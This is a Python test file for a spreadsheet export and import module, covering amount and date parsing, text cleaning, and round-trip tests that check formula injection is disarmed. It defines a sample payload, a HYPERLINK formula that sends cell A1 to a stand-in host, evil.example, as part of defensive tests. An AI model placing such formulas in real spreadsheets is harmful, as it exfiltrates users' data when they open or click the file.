from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings, strategies as st

from domain.currencies import EXPONENTS
from domain.errors import Invalid
from domain.money import Money
from starter.books.sheets import FORMULA, disarmed, restored
from starter.sheets.cells import amount, clean, instant, local, same, text_of, typed
from starter.sheets.read import Table
from starter.sheets.rows import CLAIMS
from starter.sheets.write import MOST_EXACT, write


@pytest.mark.parametrize(
    ("raw", "currency", "minor"),
    [
        (49.9, "EUR", 4990), (49, "EUR", 4900), (0.1 + 0.2, "EUR", 30), ("49,90", "EUR", 4990),
        ("49.9 EUR", "EUR", 4990),
        ("1.234,50", "EUR", 123450), ("1,234.50", "EUR", 123450), ("1'234.50", "CHF", 123450), ("1234", "JPY", 1234),
        ("1.234", "KWD", 1234), ("EUR 7", "EUR", 700), (" 7 ", "EUR", 700), ("1.234.567,5", "EUR", 123456750),
        ("1'234'567", "CHF", 123456700),
    ],
)  # fmt: skip
def test_an_amount_is_read_as_people_type_it(raw: Any, currency: str, minor: int) -> None:
    assert amount(raw, currency, "amount") == Money(minor, currency)


@pytest.mark.parametrize(
    "raw", ["1,234", "1.234", "49.999", 49.999, "x", "", "1e5", "1..2", "=1+1", True, None, 1e300, float("nan"),
            float("inf"), "9" * 30, "7 USD", "٣", "1,2.5", "1.23,45", "1''2", "1'2", "1,23,4.5", "1,234.567,8"],
)  # fmt: skip
def test_an_amount_that_could_be_another_is_refused(raw: Any) -> None:
    with pytest.raises(Invalid, match=r"^amount: "):
        amount(raw, "EUR", "amount")


def test_a_comma_that_could_part_thousands_is_refused_where_a_currency_has_three_decimals() -> None:
    with pytest.raises(Invalid, match=r"write for example 49\.000"):
        amount("1,000", "KWD", "amount")
    assert amount("1,000.000", "KWD", "amount") == Money(1_000_000, "KWD")


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("2026-11-24 16:00", "2026-11-24 15:00"), ("24.11.2026 16:00", "2026-11-24 15:00"),
        ("11/24/2026 4:00 PM", "2026-11-24 15:00"), (datetime(2026, 7, 1, 16), "2026-07-01 14:00"),  # noqa: DTZ001
        ("2026-11-24", "2026-11-24 22:59"), (46350.5, "2026-11-24 11:00"),
        (date(2026, 11, 24), "2026-11-24 22:59"), ("2026/11/24 16:00", "2026-11-24 15:00"),
        ("24-11-2026", "2026-11-24 22:59"), ("24.11.26", "2026-11-24 22:59"), ("24/11/26", "2026-11-24 22:59"),
    ],
)  # fmt: skip
def test_a_time_is_read_on_the_clock_of_the_marketplace(raw: Any, expected: str) -> None:
    assert f"{instant(raw, 'Europe/Berlin', 'until'):%Y-%m-%d %H:%M}" == expected


@pytest.mark.parametrize("raw", ["2024-04-06", date(2024, 4, 6)])
def test_a_day_alone_lasts_until_its_end_also_where_its_last_hour_comes_twice(raw: Any) -> None:
    assert instant(raw, "America/Santiago", "until") == datetime(2024, 4, 7, 3, 59, tzinfo=UTC)


@pytest.mark.parametrize(
    "raw", ["1/2/2027", "1-2-2027", "1.2.202", "31.02.2027", "soon", "", None, True, 1e12, "2026-13-01", float("nan")]
)
def test_a_time_that_could_be_another_is_refused(raw: Any) -> None:
    with pytest.raises(Invalid, match=r"^until: "):
        instant(raw, "UTC", "until")


def test_texts_are_cleaned_and_escapes_are_taken_off() -> None:
    assert clean("a\x00b\x1b[31m\r\nc\v ") == "a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}[31m\nc"
    assert (typed("'=1+1"), typed("'tis"), typed(7.0), typed(7.5), typed(None)) == ("=1+1", "'tis", "7", "7.5", "")
    assert local(None, "UTC") is None


MONEY = st.builds(Money, st.integers(-(10**15), 10**17), st.sampled_from(sorted(EXPONENTS)))
TIMES = st.datetimes(datetime(1990, 1, 1), datetime(2200, 1, 1)).map(  # noqa: DTZ001
    lambda moment: local(moment.replace(tzinfo=UTC), "UTC")
)
SPLITTING = st.text(st.sampled_from(",;\t\n\r\"'=+-@＝ a"), max_size=20)
"""Texts of what splits, quotes and runs."""

TEXTS = st.one_of(
    st.text(max_size=60),
    SPLITTING,
    st.sampled_from(["=1", "'=1", "_x0041_", "1e5", "007", "TRUE", "'", " = 1"]),
    st.sampled_from(["a;=1", "a;'=1", 'a;"=1', "a\n-1", "a;"]),
).map(clean)
LURE = 'broken;=HYPERLINK("http://evil.example/?"&A1,"click");=1+1;'
VALUES = st.lists(st.one_of(TEXTS, MONEY, TIMES, st.integers(0, 10**9), st.none()), min_size=5, max_size=5)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(VALUES, max_size=3))
@example(rows=[["", Money(508_325_072_156, "AED"), None, None, None]])
@example(rows=[[LURE, "a;'=1", "a;''", "a\n'- b", LURE]])
def test_what_is_written_is_read_back_as_the_same(tmp_path: Path, suffix: str, rows: list[list[Any]]) -> None:
    columns = CLAIMS.shown(desk=True)
    full = [[*row, *["k"] * (len(columns) - 5)] for row in rows]
    file = tmp_path / f"a{suffix}"
    write(file, "claims", columns, full)
    found = list(Table(file, CLAIMS).rows())
    assert len(found) == len(full)
    for row, values in zip(found, full, strict=True):
        for column, value in zip(columns, values, strict=True):
            assert same(value, row.cells[column.name]), (column.name, value, row.cells[column.name])


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(st.one_of(SPLITTING, TEXTS, TIMES, st.none()), min_size=3, max_size=3), max_size=3))
@example(rows=[["c1", LURE, "x"]])
@example(rows=[["c1", 'a;"=1', "x"], ["c2", "a\n=1", "x"], ["c3", "a\t@x", "x"], ["c4", "a,b;", "a,b;"]])
def test_no_cell_runs_wherever_a_spreadsheet_splits_the_line(
    tmp_path: Path, separator: str, rows: list[list[Any]]
) -> None:
    file = tmp_path / "a.csv"
    write(file, "claims", CLAIMS.columns[:3], rows)
    text = io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")
    for row in csv.reader(text, delimiter=separator):
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA), cell


@given(text=st.one_of(SPLITTING, TEXTS))
@example(text=LURE)
def test_what_was_disarmed_inside_a_text_is_read_as_the_very_same(text: str) -> None:
    assert restored(disarmed(text)) == text


def test_a_text_that_splits_nowhere_stands_in_the_file_as_it_is() -> None:
    for text in ("a, =1", "a; b - c", "one\n\ntwo", "it's 5-6; 'so'", "a,"):
        assert disarmed(text) == text


def test_a_file_saved_as_xlsx_since_still_holds_what_was_written() -> None:
    assert same(LURE, disarmed(LURE))
    assert same("=1;=1", "'" + disarmed("=1;=1"))


def test_amounts_too_long_for_a_spreadsheets_numbers_stay_exact(tmp_path: Path) -> None:
    columns, file = CLAIMS.shown(desk=True), tmp_path / "a.xlsx"
    money = Money(MOST_EXACT + 1, "EUR")
    write(file, "claims", columns, [[money] * len(columns)])
    (row,) = Table(file, CLAIMS).rows()
    assert row.cells["at stake"] == text_of(money)
